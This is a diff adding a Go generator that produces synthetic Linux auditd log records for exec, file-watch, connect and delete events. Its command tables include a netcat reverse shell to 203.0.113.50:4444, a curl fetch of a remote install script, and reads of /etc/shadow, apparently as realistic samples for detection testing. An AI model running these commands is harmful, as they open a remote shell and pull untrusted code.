@@ -0,0 +1,511 @@
+package generator
+
+import (
+	"fmt"
+	"hash/fnv"
+	"math/rand"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// auditd 상수
+const (
+	auditArch            = "c000003e" // AUDIT_ARCH_X86_64
+	auditUnset           = "4294967295"
+	auditMaxKeyLen       = 256 // AUDIT_MAX_KEY_LEN
+	auditMaxProctitleLen = 128 // MAX_PROCTITLE_AUDIT_LEN
+	auditSyslogApp       = "audisp-syslog"
+)
+
+// AuditOptions - auditd 출력 옵션
+type AuditOptions struct {
+	// 규칙 키 (auditctl -k). 비어 있으면 이벤트 종류별 기본 키
+	// (exec, identity, scope, sshd, network_connect, delete)를 사용하고,
+	// 설정하면 이벤트마다 목록에서 무작위로 선택한다.
+	Keys []string `json:"keys,omitempty"`
+}
+
+// Validate - 규칙 키 검증 (auditctl이 허용하는 형태)
+func (o AuditOptions) Validate() error {
+	for _, key := range o.Keys {
+		if key == "" || len(key) > auditMaxKeyLen {
+			return fmt.Errorf("잘못된 auditd 규칙 키 길이: %q (1~%d자)", key, auditMaxKeyLen)
+		}
+		if strings.ContainsAny(key, " \t\r\n\"") {
+			return fmt.Errorf("auditd 규칙 키에 공백이나 따옴표를 사용할 수 없습니다: %q", key)
+		}
+	}
+	return nil
+}
+
+// auditCommand - execve 이벤트 명령 템플릿
+type auditCommand struct {
+	argv   []string
+	exe    string
+	root   bool // sudo 등으로 uid 0 실행
+	weight float64
+}
+
+var auditCommands = []auditCommand{
+	{argv: []string{"ls", "-la", "/tmp"}, exe: "/usr/bin/ls", weight: 20},
+	{argv: []string{"ps", "aux"}, exe: "/usr/bin/ps", weight: 12},
+	{argv: []string{"cat", "/etc/passwd"}, exe: "/usr/bin/cat", weight: 8},
+	{argv: []string{"whoami"}, exe: "/usr/bin/whoami", weight: 6},
+	{argv: []string{"crontab", "-l"}, exe: "/usr/bin/crontab", weight: 4},
+	{argv: []string{"sudo", "systemctl", "restart", "nginx"}, exe: "/usr/bin/sudo", weight: 8},
+	{argv: []string{"systemctl", "restart", "nginx"}, exe: "/usr/bin/systemctl", root: true, weight: 6},
+	{argv: []string{"bash", "-c", "echo \"backup done\" >> /var/log/backup.log"}, exe: "/usr/bin/bash", weight: 6},
+	{argv: []string{"python3", "/opt/app/manage.py", "migrate"}, exe: "/usr/bin/python3.10", weight: 8},
+	{argv: []string{"useradd", "-m", "backup"}, exe: "/usr/sbin/useradd", root: true, weight: 2},
+	{argv: []string{"curl", "-s", "http://198.51.100.23/install.sh"}, exe: "/usr/bin/curl", weight: 3},
+	{argv: []string{"nc", "-e", "/bin/sh", "203.0.113.50", "4444"}, exe: "/usr/bin/nc.traditional", weight: 1},
+}
+
+// auditWatch - 파일 감시 규칙 (-w path -p wa -k key)
+type auditWatch struct {
+	path    string
+	key     string
+	comm    string
+	exe     string
+	argv    []string
+	write   bool // 쓰기 시도 (O_WRONLY|O_TRUNC)
+	rootReq bool // 일반 사용자는 EACCES
+}
+
+var auditWatches = []auditWatch{
+	{path: "/etc/shadow", key: "identity", comm: "cat", exe: "/usr/bin/cat", argv: []string{"cat", "/etc/shadow"}, rootReq: true},
+	{path: "/etc/passwd", key: "identity", comm: "vim", exe: "/usr/bin/vim.basic", argv: []string{"vim", "/etc/passwd"}, write: true, rootReq: true},
+	{path: "/etc/sudoers", key: "scope", comm: "visudo", exe: "/usr/sbin/visudo", argv: []string{"visudo"}, write: true, rootReq: true},
+	{path: "/etc/ssh/sshd_config", key: "sshd", comm: "nano", exe: "/usr/bin/nano", argv: []string{"nano", "/etc/ssh/sshd_config"}, write: true, rootReq: true},
+}
+
+// auditConnect - connect(2) 대상
+var auditConnectTargets = []struct {
+	ip   [4]byte
+	port int
+	comm string
+	exe  string
+	argv []string
+}{
+	{[4]byte{198, 51, 100, 23}, 80, "curl", "/usr/bin/curl", []string{"curl", "-s", "http://198.51.100.23/install.sh"}},
+	{[4]byte{10, 1, 20, 5}, 5432, "python3", "/usr/bin/python3.10", []string{"python3", "/opt/app/worker.py"}},
+	{[4]byte{10, 1, 20, 9}, 6379, "node", "/usr/bin/node", []string{"node", "/srv/api/server.js"}},
+	{[4]byte{203, 0, 113, 50}, 4444, "nc", "/usr/bin/nc.traditional", []string{"nc", "203.0.113.50", "4444"}},
+}
+
+// auditdEventKind - 다중 레코드 이벤트 종류
+type auditdEventKind int
+
+const (
+	auditExec    auditdEventKind = iota // SYSCALL + EXECVE + CWD + PATH×2 + PROCTITLE
+	auditFile                           // SYSCALL + CWD + PATH + PROCTITLE
+	auditConnect                        // SYSCALL + SOCKADDR + PROCTITLE
+	auditDelete                         // SYSCALL + CWD + PATH(PARENT) + PATH(DELETE) + PROCTITLE
+)
+
+var auditKindWeights = map[int]float64{
+	int(auditExec):    60,
+	int(auditFile):    15,
+	int(auditConnect): 18,
+	int(auditDelete):  7,
+}
+
+// auditSubject - 이벤트 주체 (로그인 사용자 또는 데몬)
+type auditSubject struct {
+	auid, uid, tty, ses string
+	cwd                 string
+	ppid                int
+}
+
+// AuditdGenerator - Linux auditd 레코드 생성기
+//
+// 한 이벤트의 레코드(SYSCALL, EXECVE, CWD, PATH, PROCTITLE)를 한 번에 렌더링해
+// 대기열에 넣고, Generate는 대기열에서 한 줄씩 꺼낸다. 같은 이벤트의 레코드는
+// 같은 audit(타임스탬프:시리얼)을 공유하며 연속으로 출력된다.
+type AuditdGenerator struct {
+	name   string
+	header *syslogWrapper // nil이면 audit.log 원문 (node= 접두사)
+	keys   []string
+
+	hostnames []string
+	kinds     cumulativeTable
+	commands  cumulativeTable
+	subjects  []auditSubject
+
+	pending recordQueue // 현재 이벤트의 남은 레코드
+	hostIdx int
+
+	serial  uint64
+	nextPID int
+	clock   *logClock
+
+	rng      *rand.Rand
+	rngMutex sync.Mutex
+}
+
+// newAuditdGenerator - auditd 생성기 초기화 (embedded = syslog 헤더 포함)
+func newAuditdGenerator(name string, embedded bool, options GeneratorOptions) (*AuditdGenerator, error) {
+	kinds, err := newCumulativeTable(auditKindWeights, "auditd 이벤트")
+	if err != nil {
+		return nil, err
+	}
+	commandWeights := make(map[int]float64, len(auditCommands))
+	for i, command := range auditCommands {
+		commandWeights[i] = command.weight
+	}
+	commands, err := newCumulativeTable(commandWeights, "auditd 명령")
+	if err != nil {
+		return nil, err
+	}
+
+	rng := rand.New(rand.NewSource(time.Now().UnixNano()))
+	gen := &AuditdGenerator{
+		name:      name,
+		keys:      options.Audit.Keys,
+		hostnames: options.hostnames(),
+		kinds:     kinds,
+		commands:  commands,
+		serial:    uint64(1000 + rng.Intn(100000)),
+		nextPID:   2000 + rng.Intn(30000),
+		clock:     getClock(),
+		rng:       rng,
+	}
+	if embedded {
+		if gen.header, err = newSyslogWrapper(options); err != nil {
+			return nil, err
+		}
+	}
+
+	// 로그인 사용자별 고정 세션/셸 (auid, ses, tty가 이벤트 간에 일관됨)
+	for i, user := range commonUsernames {
+		uid, cwd := strconv.Itoa(1000+i), "/home/"+user
+		if user == "root" {
+			uid, cwd = "0", "/root"
+		}
+		gen.subjects = append(gen.subjects, auditSubject{
+			auid: uid,
+			uid:  uid,
+			tty:  "pts" + strconv.Itoa(i%4),
+			ses:  strconv.Itoa(1 + i*3),
+			cwd:  cwd,
+			ppid: 1000 + rng.Intn(60000),
+		})
+	}
+	// cron/systemd 등 로그인 세션이 없는 주체
+	gen.subjects = append(gen.subjects, auditSubject{
+		auid: auditUnset, uid: "0", tty: "(none)", ses: auditUnset, cwd: "/", ppid: 1,
+	})
+	return gen, nil
+}
+
+func init() {
+	RegisterFormatter("auditd", func(options GeneratorOptions) (LogFormatter, error) {
+		return newAuditdGenerator("auditd", false, options)
+	})
+	RegisterFormatter("auditd_syslog", func(options GeneratorOptions) (LogFormatter, error) {
+		return newAuditdGenerator("auditd_syslog", true, options)
+	})
+}
+
+// Name - LogFormatter 구현
+func (g *AuditdGenerator) Name() string {
+	return g.name
+}
+
+// Generate - LogFormatter 구현 (레코드 한 줄)
+func (g *AuditdGenerator) Generate() []byte {
+	buffer := getBuffer()
+
+	g.rngMutex.Lock()
+	defer g.rngMutex.Unlock()
+
+	if g.pending.empty() {
+		g.buildEvent()
+	}
+	record := g.pending.pop()
+
+	if g.header != nil {
+		buffer = g.header.appendHeader(buffer, 1, 6, g.hostIdx, auditSyslogApp, "", "")
+	} else {
+		buffer = append(buffer, "node="...)
+		buffer = append(buffer, g.hostnames[g.hostIdx]...)
+		buffer = append(buffer, ' ')
+	}
+	buffer = append(buffer, record...)
+	return finishBuffer(buffer)
+}
+
+// buildEvent - 다음 이벤트의 레코드를 대기열에 렌더링 (호출자가 락 보유)
+func (g *AuditdGenerator) buildEvent() {
+	g.pending.reset()
+	g.serial++
+	g.nextPID++
+	if g.nextPID > 4194304 {
+		g.nextPID = 2000
+	}
+	if g.header != nil {
+		g.hostIdx = g.header.pickHost(g.rng)
+	} else {
+		g.hostIdx = g.rng.Intn(len(g.hostnames))
+	}
+
+	// msg=audit(초.밀리초:시리얼): (모든 레코드 공통)
+	now := g.clock.Now()
+	stamp := make([]byte, 0, 40)
+	stamp = append(stamp, " msg=audit("...)
+	stamp = strconv.AppendInt(stamp, now.Unix(), 10)
+	stamp = append(stamp, '.')
+	ms := now.Nanosecond() / 1000000
+	stamp = append(stamp, byte('0'+ms/100), byte('0'+ms/10%10), byte('0'+ms%10), ':')
+	stamp = strconv.AppendUint(stamp, g.serial, 10)
+	stamp = append(stamp, "): "...)
+
+	subject := g.subjects[g.rng.Intn(len(g.subjects))]
+	switch auditdEventKind(g.kinds.pick(g.rng)) {
+	case auditFile:
+		g.buildFile(stamp, subject)
+	case auditConnect:
+		g.buildConnect(stamp, subject)
+	case auditDelete:
+		g.buildDelete(stamp, subject)
+	default:
+		g.buildExec(stamp, subject)
+	}
+}
+
+// record - 새 레코드 시작 ("type=X msg=audit(...): ")
+func (g *AuditdGenerator) record(recordType string, stamp []byte) {
+	g.pending.begin()
+	g.pending.data = append(g.pending.data, "type="...)
+	g.pending.data = append(g.pending.data, recordType...)
+	g.pending.data = append(g.pending.data, stamp...)
+}
+
+// key - 이벤트 규칙 키 (옵션 키가 있으면 우선)
+func (g *AuditdGenerator) key(defaultKey string) string {
+	if len(g.keys) > 0 {
+		return g.keys[g.rng.Intn(len(g.keys))]
+	}
+	return defaultKey
+}
+
+// appendSyscall - SYSCALL 레코드 본문
+func (g *AuditdGenerator) appendSyscall(stamp []byte, subject auditSubject, syscall int, exit int, args [4]uint64,
+	items int, root bool, comm, exe, key string) {
+	g.record("SYSCALL", stamp)
+	buffer := g.pending.data
+	buffer = append(buffer, "arch="+auditArch+" syscall="...)
+	buffer = strconv.AppendInt(buffer, int64(syscall), 10)
+	if exit < 0 {
+		buffer = append(buffer, " success=no exit="...)
+	} else {
+		buffer = append(buffer, " success=yes exit="...)
+	}
+	buffer = strconv.AppendInt(buffer, int64(exit), 10)
+	for i, arg := range args {
+		buffer = append(buffer, " a"...)
+		buffer = append(buffer, byte('0'+i), '=')
+		buffer = strconv.AppendUint(buffer, arg, 16)
+	}
+	buffer = append(buffer, " items="...)
+	buffer = strconv.AppendInt(buffer, int64(items), 10)
+	buffer = append(buffer, " ppid="...)
+	buffer = strconv.AppendInt(buffer, int64(subject.ppid), 10)
+	buffer = append(buffer, " pid="...)
+	buffer = strconv.AppendInt(buffer, int64(g.nextPID), 10)
+	buffer = append(buffer, " auid="...)
+	buffer = append(buffer, subject.auid...)
+
+	uid := subject.uid
+	if root {
+		uid = "0"
+	}
+	for _, field := range []string{" uid=", " gid=", " euid=", " suid=", " fsuid=", " egid=", " sgid=", " fsgid="} {
+		buffer = append(buffer, field...)
+		buffer = append(buffer, uid...)
+	}
+	buffer = append(buffer, " tty="...)
+	buffer = append(buffer, subject.tty...)
+	buffer = append(buffer, " ses="...)
+	buffer = append(buffer, subject.ses...)
+	buffer = append(buffer, " comm="...)
+	buffer = appendAuditString(buffer, comm)
+	buffer = append(buffer, " exe="...)
+	buffer = appendAuditString(buffer, exe)
+	buffer = append(buffer, " subj=unconfined key="...)
+	if key == "" {
+		buffer = append(buffer, "(null)"...)
+	} else {
+		buffer = appendAuditString(buffer, key)
+	}
+	g.pending.data = buffer
+}
+
+// appendCwd - CWD 레코드
+func (g *AuditdGenerator) appendCwd(stamp []byte, cwd string) {
+	g.record("CWD", stamp)
+	g.pending.data = append(g.pending.data, "cwd="...)
+	g.pending.data = appendAuditString(g.pending.data, cwd)
+}
+
+// appendPath - PATH 레코드 (inode는 경로별로 고정)
+func (g *AuditdGenerator) appendPath(stamp []byte, item int, name, mode, nametype string) {
+	g.record("PATH", stamp)
+	buffer := g.pending.data
+	buffer = append(buffer, "item="...)
+	buffer = strconv.AppendInt(buffer, int64(item), 10)
+	buffer = append(buffer, " name="...)
+	buffer = appendAuditString(buffer, name)
+	buffer = append(buffer, " inode="...)
+	buffer = strconv.AppendUint(buffer, uint64(auditInode(name)), 10)
+	buffer = append(buffer, " dev=fd:00 mode="...)
+	buffer = append(buffer, mode...)
+	buffer = append(buffer, " ouid=0 ogid=0 rdev=00:00 nametype="...)
+	buffer = append(buffer, nametype...)
+	buffer = append(buffer, " cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"...)
+	g.pending.data = buffer
+}
+
+// appendProctitle - PROCTITLE 레코드 (argv를 NUL로 이어 커널과 같은 규칙으로 인코딩)
+func (g *AuditdGenerator) appendProctitle(stamp []byte, argv []string) {
+	g.record("PROCTITLE", stamp)
+	g.pending.data = append(g.pending.data, "proctitle="...)
+	g.pending.data = appendAuditString(g.pending.data, auditProctitle(argv))
+}
+
+// pointer - 사용자 공간 주소처럼 보이는 syscall 인자
+func (g *AuditdGenerator) pointer() uint64 {
+	return 0x55d000000000 + uint64(g.rng.Int63n(0xfffffffff))
+}
+
+// buildExec - execve(2) 이벤트
+func (g *AuditdGenerator) buildExec(stamp []byte, subject auditSubject) {
+	command := &auditCommands[g.commands.pick(g.rng)]
+	root := command.root || subject.uid == "0"
+	args := [4]uint64{g.pointer(), g.pointer(), g.pointer(), 0}
+
+	g.appendSyscall(stamp, subject, 59, 0, args, 2, root, auditComm(command.argv[0]), command.exe, g.key("exec"))
+
+	g.record("EXECVE", stamp)
+	g.pending.data = append(g.pending.data, "argc="...)
+	g.pending.data = strconv.AppendInt(g.pending.data, int64(len(command.argv)), 10)
+	for i, arg := range command.argv {
+		g.pending.data = append(g.pending.data, " a"...)
+		g.pending.data = strconv.AppendInt(g.pending.data, int64(i), 10)
+		g.pending.data = append(g.pending.data, '=')
+		g.pending.data = appendAuditString(g.pending.data, arg)
+	}
+
+	g.appendCwd(stamp, subject.cwd)
+	g.appendPath(stamp, 0, command.exe, "0100755", "NORMAL")
+	g.appendPath(stamp, 1, "/lib64/ld-linux-x86-64.so.2", "0100755", "NORMAL")
+	g.appendProctitle(stamp, command.argv)
+}
+
+// buildFile - 감시 파일 openat(2) 이벤트 (권한이 없으면 EACCES)
+func (g *AuditdGenerator) buildFile(stamp []byte, subject auditSubject) {
+	watch := &auditWatches[g.rng.Intn(len(auditWatches))]
+	root := subject.uid == "0" || g.rng.Intn(2) == 0
+	exit := 3
+	if watch.rootReq && !root {
+		exit = -13 // EACCES
+	}
+	flags := uint64(0) // O_RDONLY
+	if watch.write {
+		flags = 0x241 // O_WRONLY|O_CREAT|O_TRUNC
+	}
+	args := [4]uint64{0xffffff9c, g.pointer(), flags, 0x1b6} // AT_FDCWD
+
+	g.appendSyscall(stamp, subject, 257, exit, args, 1, root, watch.comm, watch.exe, g.key(watch.key))
+	g.appendCwd(stamp, subject.cwd)
+	g.appendPath(stamp, 0, watch.path, "0100640", "NORMAL")
+	g.appendProctitle(stamp, watch.argv)
+}
+
+// buildConnect - connect(2) 이벤트 (SOCKADDR는 struct sockaddr_in 16진수)
+func (g *AuditdGenerator) buildConnect(stamp []byte, subject auditSubject) {
+	target := &auditConnectTargets[g.rng.Intn(len(auditConnectTargets))]
+	exit := 0
+	switch g.rng.Intn(10) {
+	case 0:
+		exit = -111 // ECONNREFUSED
+	case 1, 2:
+		exit = -115 // EINPROGRESS (논블로킹 소켓)
+	}
+	args := [4]uint64{uint64(3 + g.rng.Intn(20)), g.pointer(), 0x10, 0}
+
+	g.appendSyscall(stamp, subject, 42, exit, args, 0, subject.uid == "0", target.comm, target.exe, g.key("network_connect"))
+
+	g.record("SOCKADDR", stamp)
+	g.pending.data = append(g.pending.data, "saddr=0200"...) // AF_INET (리틀 엔디언)
+	g.pending.data = appendUpperHex(g.pending.data, []byte{byte(target.port >> 8), byte(target.port)})
+	g.pending.data = appendUpperHex(g.pending.data, target.ip[:])
+	g.pending.data = append(g.pending.data, "0000000000000000"...)
+
+	g.appendProctitle(stamp, target.argv)
+}
+
+// buildDelete - unlinkat(2) 이벤트
+func (g *AuditdGenerator) buildDelete(stamp []byte, subject auditSubject) {
+	dir := subject.cwd
+	name := "report-" + strconv.Itoa(g.rng.Intn(1000)) + ".tmp"
+	argv := []string{"rm", "-f", name}
+	args := [4]uint64{0xffffff9c, g.pointer(), 0, 0}
+
+	g.appendSyscall(stamp, subject, 263, 0, args, 2, subject.uid == "0", "rm", "/usr/bin/rm", g.key("delete"))
+	g.appendCwd(stamp, dir)
+	g.appendPath(stamp, 0, dir+"/", "040755", "PARENT")
+	g.appendPath(stamp, 1, name, "0100644", "DELETE")
+	g.appendProctitle(stamp, argv)
+}
+
+// auditComm - comm 필드 (실행 파일 이름, 커널 TASK_COMM_LEN 15자 제한)
+func auditComm(argv0 string) string {
+	if i := strings.LastIndexByte(argv0, '/'); i >= 0 {
+		argv0 = argv0[i+1:]
+	}
+	if len(argv0) > 15 {
+		argv0 = argv0[:15]
+	}
+	return argv0
+}
+
+// auditProctitle - /proc/pid/cmdline 형태 (인자 NUL 구분, 128바이트 절단)
+func auditProctitle(argv []string) string {
+	title := strings.Join(argv, "\x00")
+	if len(title) > auditMaxProctitleLen {
+		title = title[:auditMaxProctitleLen]
+	}
+	return title
+}
+
+// appendAuditString - 커널 audit_log_untrustedstring 규칙
+// 따옴표, 공백/제어 문자(NUL 포함), 0x7e 초과 바이트가 있으면 대문자 16진수, 아니면 따옴표 문자열
+func appendAuditString(buffer []byte, value string) []byte {
+	for i := 0; i < len(value); i++ {
+		if c := value[i]; c == '"' || c < 0x21 || c > 0x7e {
+			return appendUpperHex(buffer, []byte(value))
+		}
+	}
+	buffer = append(buffer, '"')
+	buffer = append(buffer, value...)
+	return append(buffer, '"')
+}
+
+// appendUpperHex - 대문자 16진수 인코딩
+func appendUpperHex(buffer []byte, value []byte) []byte {
+	const digits = "0123456789ABCDEF"
+	for _, c := range value {
+		buffer = append(buffer, digits[c>>4], digits[c&0xf])
+	}
+	return buffer
+}
+
+// auditInode - 경로별 고정 inode 번호
+func auditInode(path string) uint32 {
+	h := fnv.New32a()
+	h.Write([]byte(path))
+	return h.Sum32()%4000000 + 1000
+}